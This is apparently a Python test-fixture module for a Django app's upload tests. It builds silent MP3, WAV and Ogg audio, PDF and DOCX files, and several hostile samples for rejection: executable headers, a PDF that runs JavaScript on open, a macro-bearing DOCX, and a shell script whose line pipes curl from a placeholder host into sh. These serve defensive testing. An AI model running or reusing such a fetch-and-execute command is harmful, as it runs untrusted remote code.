"""Small files built in code for the upload tests: real recordings and documents, and hostile ones."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from mutagen.id3 import COMM, ID3, TIT2, TPE1

from chorus.grants.demo import silent_wav

# One MPEG-1 layer III frame: 128 kbit/s at 44.1 kHz is 417 bytes, header included.
MP3_FRAME = b"\xff\xfb\x90\x00" + bytes(413)


def mp3(frames: int = 8, *, title: str = "", artist: str = "", comment: str = "", encoding: int = 3) -> bytes:
    """An MP3 of silence, with an ID3 tag if any text is given (encoding 1 is UTF-16, 3 UTF-8)."""
    audio = MP3_FRAME * frames
    if not (title or artist or comment):
        return audio
    tags = ID3()
    if title:
        tags.add(TIT2(encoding=encoding, text=title))
    if artist:
        tags.add(TPE1(encoding=encoding, text=artist))
    if comment:
        tags.add(COMM(encoding=encoding, lang="eng", desc="", text=comment))
    stream = io.BytesIO(audio)
    tags.save(stream)
    return stream.getvalue()


def wav(frames: int = 800) -> bytes:
    return silent_wav(frames)


def ogg() -> bytes:
    """The first page of an Ogg stream (capture pattern, version, header type, granule...)."""
    return b"OggS\x00\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + bytes(40)


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x00" * 200
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PDF_WITH_SCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)


def docx(*, with_macros: bool = False) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if with_macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macros")
    return stream.getvalue()


def upload(content: bytes, name: str = "voice.mp3", content_type: str = "audio/mpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)
